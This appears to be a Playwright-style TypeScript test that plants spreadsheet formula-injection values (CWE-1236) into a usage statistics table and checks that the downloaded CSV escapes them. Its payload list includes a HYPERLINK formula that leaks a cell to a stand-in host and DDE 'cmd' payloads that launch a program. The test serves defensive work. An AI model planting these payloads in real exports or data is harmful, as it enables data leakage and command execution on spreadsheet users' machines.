import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { instantOf } from '../../base/instant.ts'
import { dayOf } from '../../service/statistics/usage-day.ts'
import { alterDatabase } from './alter-database.ts'
import type { BrowserTest } from './browser-test.ts'
import { hostileOffice } from './hostile-office.ts'
import { comeAs } from './log-in.ts'
import { plantedIn } from './planted.ts'

/** What spreadsheets compute, in every way that they take for a beginning. CWE-1236 */
const FORMULAS = [
  '=HYPERLINK("http://elsewhere.invalid/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|A0',
  '-1+cmd|A0',
  '@SUM(1+1)*cmd|A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1',
  '<b class=planted>',
]

const COMPUTED = /^[=+\-@\t\r\n＝＋－＠]/u

/** Past the service, which counts words of closed lists and ids alone: what somebody may have brought into its database. */
function plant(state: string): void {
  const day = dayOf(instantOf(Date.now()))
  alterDatabase(state, (database) => {
    const insert = database.prepare(
      `INSERT OR REPLACE INTO usage_day (day, kind, region, dimension, value, count) VALUES (?, 'verification', ?, 'authority', ?, 3)`,
    )
    for (const text of FORMULAS) insert.run(day, 'CN-GD', text)
    insert.run(day, '-A', 'some-authority')
  })
}

/** Records and cells of a CSV, quotes taken off. RFC 4180 §2 */
function cellsOf(csv: string): readonly { readonly text: string; readonly isQuoted: boolean }[][] {
  const records: { text: string; isQuoted: boolean }[][] = [[]]
  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    records.at(-1)!.push({ text: quoted?.replaceAll('""', '"') ?? bare ?? '', isQuoted: quoted !== undefined })
    if (end === '\r\n') records.push([])
  }
  return records.slice(0, -1)
}

export const statisticsTests = (token: string, state: string): readonly BrowserTest[] =>
  (['zh', 'en'] as const).map((lang) => ({
    title: `statistics as a file, in ${lang}: what a stranger has brought into them is computed by no spreadsheet — RFC 4180, CWE-1236`,
    async run({ page, address }) {
      const { people } = await hostileOffice(address, token)
      plant(state)
      await comeAs(page, address, people.auditor)
      await page.goto(`${address}/supervisor/statistics?lang=${lang}&days=7`)
      assert.deepEqual(await plantedIn(page), [])
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('a[href*="statistics.csv"]')])
      assert.match(download.suggestedFilename(), /^yanqian-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv$/)
      const csv = await readFile(await download.path(), 'utf8')
      assert.equal(csv[0], '\u{FEFF}')
      const [head, ...rows] = cellsOf(csv.slice(1))
      assert.ok(rows.length > FORMULAS.length, `${rows.length} rows`)
      for (const row of [head!, ...rows]) {
        assert.equal(row.length, 6)
        for (const { text, isQuoted } of row) {
          assert.ok(!COMPUTED.test(text), JSON.stringify(text))
          assert.ok(isQuoted || /^\d+$/.test(text), JSON.stringify(text))
        }
      }
      const texts = new Set(rows.flat().map(({ text }) => text))
      for (const formula of [...FORMULAS, '-A']) {
        const shown = COMPUTED.test(formula) ? `'${formula}` : formula
        assert.ok(texts.has(shown), `${JSON.stringify(shown)} is there`)
      }
    },
  }))
